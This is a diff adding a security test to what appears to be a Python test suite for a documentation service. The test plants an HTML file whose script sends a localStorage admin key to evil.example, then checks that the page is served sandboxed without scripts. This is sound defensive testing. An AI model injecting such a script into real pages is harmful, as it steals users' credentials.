@@ -4,6 +4,7 @@ honest escalations, SSE as a client parses it, multi-turn, and every validation 
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterator
 from typing import Any
 
@@ -225,3 +226,22 @@ def test_http_callers_never_see_internal_content(client: TestClient, docs_servic
         shown = r.text.replace(question, "")  # the question is echoed back as search_query
         assert "OSPREY" not in shown and "internal-notes" not in shown and "Refund runbook" not in shown
     assert "OSPREY" not in client.get("/v1/escalations", headers=agent).text.replace(question, "")
+
+
+def test_raw_html_in_the_demo_docs_cannot_reach_this_origin(tmp_path: Any, docs_services: Services) -> None:
+    """The analytics page keeps the admin key in this origin's storage: a docs folder's own HTML page is
+    served sandboxed, without scripts. And the home page's tab shows a title, not the template's markers."""
+    docs = tmp_path / "kb"
+    docs.mkdir()
+    (docs / "evil.html").write_text("<script>fetch('https://evil.example/?k=' + localStorage.getItem('k'))</script>")
+    (docs / "index.md").write_text("# Welcome\n\nHello.\n")
+    settings = docs_services.settings.model_copy(update={"demo_docs_dir": docs})
+    with TestClient(create_app(services=Services(settings, embedder=docs_services.embedder))) as c:
+        r = c.get("/kb/evil.html")
+        assert r.status_code == 200
+        csp = r.headers["content-security-policy"]
+        assert csp.startswith("sandbox") and "allow-scripts" not in csp and "default-src 'none'" in csp
+        assert r.headers["x-content-type-options"] == "nosniff"
+        for path, title in (("/", "answerdesk documentation"), ("/kb/index.md", "Welcome — answerdesk documentation")):
+            page = c.get(path).text
+            assert re.search(r"<title>(.*?)</title>", page, re.S).group(1) == title, path  # type: ignore[union-attr]
